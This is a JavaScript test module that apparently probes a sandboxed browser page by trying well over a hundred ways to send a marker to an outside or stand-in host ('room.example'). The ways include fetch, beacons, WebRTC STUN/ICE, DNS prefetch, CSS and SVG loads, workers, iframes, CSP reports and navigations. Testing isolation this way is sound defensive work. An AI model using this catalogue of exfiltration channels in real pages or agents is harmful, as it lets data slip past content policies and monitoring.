// Ways out: each tries to carry a mark to a host. Sent to the room as text, and run there.
// `to` makes an address that carries the mark of an attempt; `dns` a host name that does.

const element = (name, attributes, parent = document.body) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  parent.append(made);
  return made;
};
const style = text => element('style', {}).append(text);
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
const rtc = async (realm, servers, act = () => {}) => {
  const peer = new realm.RTCPeerConnection({ iceServers: servers });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await act(peer);
};
const answerTo = (offer, address, port) =>
  offer.replace(/a=candidate.*\r\n/g, '').replace(/a=setup:actpass/, 'a=setup:active').replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:leakice') +
  `a=candidate:1 1 udp 2122260223 ${address} ${port} typ host\r\n`;

/** Tried side by side in one document. */
export const ATTEMPTS = {
  fetch: ({ to }) => fetch(to('fetch'), { mode: 'no-cors' }),
  fetch_keepalive: ({ to }) => fetch(to('fetch_keepalive'), { mode: 'no-cors', keepalive: true }),
  fetch_own_host: ({ own }) => fetch(own('fetch_own_host')),
  fetch_later: ({ to }) => fetchLater(to('fetch_later'), { activateAfter: 0 }),
  xhr: ({ to }) => {
    const request = new XMLHttpRequest();
    request.open('GET', to('xhr'));
    request.send();
  },
  beacon: ({ to }) => navigator.sendBeacon(to('beacon'), 'x'),
  event_source: ({ to }) => new EventSource(to('event_source')),
  web_socket: ({ to }) => new WebSocket(to('web_socket').replace('http', 'ws')),
  web_socket_own: ({ own }) => new WebSocket(own('web_socket_own').replace('http', 'ws')),
  web_socket_stream: ({ to }) => new WebSocketStream(to('web_socket_stream').replace('http', 'ws')).opened,
  web_transport: ({ dns }) => new WebTransport(`https://${dns('web_transport')}:4433/`).ready,
  img: ({ to }) => (new Image().src = to('img')),
  img_srcset: ({ to }) => element('img', { srcset: `${to('img_srcset')} 2x, ${to('img_srcset')} 1x` }),
  img_attribution: ({ to }) => element('img', { attributionsrc: to('img_attribution') }),
  picture: ({ to }) => (element('picture', {}).innerHTML = `<source srcset="${to('picture')}"><img>`),
  video: ({ to }) => element('video', { src: to('video'), preload: 'auto' }),
  poster: ({ to }) => element('video', { poster: to('poster') }),
  audio: ({ to }) => new Audio(to('audio')).play(),
  track: ({ to }) => {
    const video = element('video', {});
    element('track', { src: to('track'), default: '', kind: 'captions' }, video).track.mode = 'showing';
  },
  object: ({ to }) => element('object', { data: to('object') }),
  embed: ({ to }) => element('embed', { src: to('embed') }),
  input_image: ({ to }) => element('input', { type: 'image', src: to('input_image') }),
  svg_image: ({ to }) => (element('div', {}).innerHTML = `<svg><image href="${to('svg_image')}" width="9" height="9"/></svg>`),
  svg_use: ({ to }) => (element('div', {}).innerHTML = `<svg><use href="${to('svg_use')}#x"/></svg>`),
  svg_filter: ({ to }) => (element('div', {}).innerHTML = `<svg width="9" height="9"><filter id="f"><feImage href="${to('svg_filter')}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`),
  css_background: ({ to }) => style(`body { background: url(${to('css_background')}) }`),
  css_import: ({ to }) => style(`@import url(${to('css_import')});`),
  css_font: ({ to }) => (style(`@font-face { font-family: leak; src: url(${to('css_font')}) }`), element('p', { style: 'font-family: leak' }).append('x')),
  css_cursor: ({ to }) => style(`main { cursor: url(${to('css_cursor')}), auto }`),
  css_content: ({ to }) => style(`h6::before { content: url(${to('css_content')}) }`) ?? element('h6', {}),
  css_image_set: ({ to }) => element('p', { style: `background: image-set(url(${to('css_image_set')}) 1x)` }).append('x'),
  font_face: ({ to }) => new FontFace('leak2', `url(${to('font_face')})`).load(),
  link_style: ({ to }) => element('link', { rel: 'stylesheet', href: to('link_style') }, document.head),
  link_icon: ({ to }) => element('link', { rel: 'icon', href: to('link_icon') }, document.head),
  link_manifest: ({ to }) => element('link', { rel: 'manifest', href: to('link_manifest') }, document.head),
  link_prefetch: ({ to }) => element('link', { rel: 'prefetch', href: to('link_prefetch') }, document.head),
  link_prerender: ({ to }) => element('link', { rel: 'prerender', href: to('link_prerender') }, document.head),
  link_preload: ({ to }) => element('link', { rel: 'preload', as: 'image', href: to('link_preload') }, document.head),
  link_module: ({ to }) => element('link', { rel: 'modulepreload', href: to('link_module') }, document.head),
  link_dns: ({ dns }) => element('link', { rel: 'dns-prefetch', href: `//${dns('link_dns')}` }, document.head),
  link_preconnect: ({ dns }) => element('link', { rel: 'preconnect', href: `http://${dns('link_preconnect')}` }, document.head),
  anchor_dns: ({ dns }) => element('a', { href: `http://${dns('anchor_dns')}/` }).append('x'),
  speculation: ({ to }) => element('script', { type: 'speculationrules' }).append(JSON.stringify({ prefetch: [{ urls: [to('speculation')], eagerness: 'immediate' }] })),
  script: ({ to }) => element('script', { src: to('script') }),
  import: ({ to }) => import(to('import')),
  import_from_blob: ({ to }) => import(blob(`import ${JSON.stringify(to('import_from_blob'))};`)),
  worker: ({ to }) => new Worker(to('worker')),
  shared_worker: ({ to }) => new SharedWorker(to('shared_worker')),
  worker_fetch: ({ to }) => new Worker(blob(`fetch(${JSON.stringify(to('worker_fetch'))}, { mode: 'no-cors' })`)),
  worker_import_scripts: ({ to }) => new Worker(blob(`importScripts(${JSON.stringify(to('worker_import_scripts'))})`)),
  worker_import: ({ to }) => new Worker(blob(`import(${JSON.stringify(to('worker_import'))})`)),
  worker_socket: ({ to }) => new Worker(blob(`new WebSocket(${JSON.stringify(to('worker_socket').replace('http', 'ws'))})`)),
  worker_transport: ({ dns }) => new Worker(blob(`new WebTransport('https://${dns('worker_transport')}:4433/')`)),
  worker_xhr: ({ to }) => new Worker(blob(`const r = new XMLHttpRequest(); r.open('GET', ${JSON.stringify(to('worker_xhr'))}); r.send()`)),
  worker_nested: ({ to }) => new Worker(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`fetch('${to('worker_nested')}', { mode: 'no-cors' })`)}])))`)),
  worklet: ({ to }) => new AudioContext().audioWorklet.addModule(to('worklet')),
  paint_worklet: ({ to }) => CSS.paintWorklet.addModule(to('paint_worklet')),
  service_worker: ({ own }) => navigator.serviceWorker.register(own('service_worker')),
  report_uri: ({ to }) => {
    element('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${to('report_uri')}` }, document.head);
    new Image().src = 'https://x.invalid/';
  },
  credentials_create: ({ dns }) => navigator.credentials.create({ publicKey: { rp: { id: dns('credentials_create'), name: 'x' }, user: { id: new Uint8Array(8), name: 'x', displayName: 'x' }, challenge: new Uint8Array(8), pubKeyCredParams: [{ type: 'public-key', alg: -7 }] } }),
  credentials_federated: ({ to }) => navigator.credentials.get({ identity: { providers: [{ configURL: to('credentials_federated'), clientId: 'x' }] } }),
  payment: ({ dns }) => new PaymentRequest([{ supportedMethods: `https://${dns('payment')}/pay` }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
  presentation: ({ to }) => new PresentationRequest(to('presentation')).getAvailability(),
  broadcast: () => {
    const other = new BroadcastChannel('leak');
    other.postMessage('x');
  },
  rtc_stun: ({ address, udp }) => rtc(globalThis, [{ urls: `stun:${address}:${udp[0]}` }]),
  rtc_ice: ({ address, udp }) => rtc(globalThis, [], peer => peer.setRemoteDescription({ type: 'answer', sdp: answerTo(peer.localDescription.sdp, address, udp[1]) })),
  rtc_turn_tcp: ({ address, tcp }) => rtc(globalThis, [{ urls: `turn:${address}:${tcp}?transport=tcp`, username: 'leak-rtc_turn_tcp-x', credential: 'x' }]),
  rtc_dns: ({ dns }) => rtc(globalThis, [{ urls: `stun:${dns('rtc_dns')}:3478` }]),
  rtc_blank_frame: ({ dns }) => rtc(element('iframe', {}).contentWindow, [{ urls: `stun:${dns('rtc_blank_frame')}:3478` }]),
  rtc_frame_script: ({ dns }) => {
    const source = `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${dns('rtc_frame_script')}:3478' }] }); peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o));`;
    element('iframe', { srcdoc: `<script src="${blob(source)}"></script>` });
  },
  rtc_frame_data: ({ dns }) => element('iframe', { src: `data:text/html,<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:${dns('rtc_frame_data')}:3478' }] }).createOffer()</script>` }),
  rtc_frame_script_url: ({ dns }) => element('iframe', { src: `javascript:(p => (p.createDataChannel('x'), p.createOffer().then(o => p.setLocalDescription(o))))(new RTCPeerConnection({ iceServers: [{ urls: 'stun:${dns('rtc_frame_script_url')}:3478' }] }))` }),
  rtc_frame_written: ({ dns }) => {
    const frame = element('iframe', {});
    const source = `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${dns('rtc_frame_written')}:3478' }] }); peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o));`;
    frame.contentDocument.write(`<script src="${blob(source)}"></script>`);
  },
  frame_fetch: ({ own }) => element('iframe', {}).contentWindow.fetch(own('frame_fetch')),
  frame_of_other: ({ to }) => element('iframe', { src: to('frame_of_other') }),
  frame_of_own: ({ own }) => element('iframe', { src: own('frame_of_own') }),
  frame_script_fetch: ({ to }) => element('iframe', { srcdoc: `<script src="${blob(`fetch('${to('frame_script_fetch')}', { mode: 'no-cors' })`)}"></script>` }),
  frame_img: ({ to }) => element('iframe', { srcdoc: `<img src="${to('frame_img')}">` }),
  frame_no_policy: ({ to }) => element('iframe', { src: blob(`<img src="${to('frame_no_policy')}">`, 'text/html') }),
  fenced_frame: ({ to }) => (element('fencedframe', {}).config = new FencedFrameConfig(to('fenced_frame'))),
  ping: ({ to }) => {
    const link = element('a', { href: '#x', ping: to('ping') });
    link.click();
  },
  storage_shared: ({ to }) => sharedStorage.worklet.addModule(to('storage_shared')),
  interest_group: ({ dns }) => navigator.joinAdInterestGroup({ owner: `https://${dns('interest_group')}`, name: 'x' }, 1000),
  push_state: ({ own }) => history.pushState(0, '', own('push_state')),
  xslt: ({ to }) => new XSLTProcessor().importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${to('xslt')}"/></xsl:stylesheet>`, 'text/xml')),
};

/** Each needs a fresh document, since it may end this one. */
export const DEPARTURES = {
  location: ({ to }) => (location = to('location')),
  location_own: ({ own }) => (location = own('location_own')),
  location_blob: ({ to }) => (location = blob(`<img src="${to('location_blob')}">`, 'text/html')),
  location_data: ({ to }) => (location = `data:text/html,<img src="${to('location_data')}">`),
  navigation: ({ to }) => navigation.navigate(to('navigation')),
  meta_refresh: ({ to }) => element('meta', { 'http-equiv': 'refresh', content: `0;url=${to('meta_refresh')}` }, document.head),
  link_click: ({ to }) => element('a', { href: to('link_click') }).click(),
  link_blank: ({ to }) => element('a', { href: to('link_blank'), target: '_blank' }).click(),
  link_top: ({ to }) => element('a', { href: to('link_top'), target: '_top' }).click(),
  link_parent: ({ to }) => element('a', { href: to('link_parent'), target: '_parent' }).click(),
  link_download: ({ to }) => element('a', { href: to('link_download'), download: 'x' }).click(),
  link_download_own: ({ own }) => element('a', { href: own('link_download_own'), download: 'x' }).click(),
  link_download_blank: ({ to }) => element('a', { href: to('link_download_blank'), download: 'x', target: '_blank' }).click(),
  frame_link: ({ to }) => {
    element('iframe', { name: 'inner' });
    element('a', { href: to('frame_link'), target: 'inner' }).click();
  },
  form: ({ to }) => element('form', { action: to('form'), method: 'post' }).submit(),
  form_blank: ({ to }) => element('form', { action: to('form_blank'), target: '_blank' }).submit(),
  window_open: ({ to }) => open(to('window_open')),
  window_open_frame: ({ to }) => element('iframe', {}).contentWindow.open(to('window_open_frame')),
  top_location: ({ to }) => (top.location = to('top_location')),
  parent_location: ({ to }) => (parent === self ? null : (parent.location = to('parent_location'))),
  parent_hash: ({ own }) => (parent === self ? null : (parent.location = `${own('parent_hash')}#x`)),
  base: ({ to }) => (element('base', { href: to('base') }, document.head), element('img', { src: 'leak-base-x' })),
  location_name: ({ dns }) => (location = `http://${dns('location_name')}/`),
  meta_refresh_name: ({ dns }) => element('meta', { 'http-equiv': 'refresh', content: `0;url=http://${dns('meta_refresh_name')}/` }, document.head),
  link_name: ({ dns }) => element('a', { href: `http://${dns('link_name')}/` }).click(),
  link_download_name: ({ dns }) => element('a', { href: `http://${dns('link_download_name')}/`, download: 'x' }).click(),
  form_name: ({ dns }) => element('form', { action: `http://${dns('form_name')}/` }).submit(),
  frame_name: ({ dns }) => element('iframe', { src: `http://${dns('frame_name')}/` }),
  frame_name_html: ({ dns }) => (element('div', {}).innerHTML = `<iframe src="http://${dns('frame_name_html')}/"></iframe>`),
  frame_name_class: ({ dns }) => {
    customElements.define('x-frame', class extends HTMLIFrameElement {}, { extends: 'iframe' });
    const made = new (customElements.get('x-frame'))();
    made.src = `http://${dns('frame_name_class')}/`;
    document.body.append(made);
  },
  frame_name_object: ({ dns }) => element('object', { data: `http://${dns('frame_name_object')}/` }),
  svg_link_name: ({ dns }) => {
    element('div', {}).innerHTML = `<svg><a id="s" href="http://${dns('svg_link_name')}/"><text y="9">x</text></a></svg>`;
    document.getElementById('s').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  },
  document_open: ({ to }) => {
    document.open();
    document.write(`<img src="${to('document_open')}">`);
    document.close();
  },
};

const addressesOf = ({ hosts }) => ({
  ...hosts,
  to: mark => `http://${hosts.address}:${hosts.other}/leak-${mark}-x`,
  own: mark => `http://127.0.0.1:${hosts.own}/leak-${mark}-x`,
  dns: mark => `leak-${mark}-x.room.example`.replaceAll('_', '-u-'),
});

/** Tries them, and tells what each was answered at once. */
export async function tryAll({ names, ...given }) {
  const addresses = addressesOf(given);
  const said = {};
  const late = new Promise(done => setTimeout(done, given.most ?? 2500));
  for (const name of names) {
    const act = async () => (ATTEMPTS[name] ?? DEPARTURES[name])(addresses);
    act().then(() => (said[name] ??= 'no error'), error => (said[name] = `${error?.name}: ${error?.message}`.slice(0, 100)));
  }
  await late;
  return said;
}

export default async (given, tell) => tell({ kind: 'done', value: await tryAll(given) });
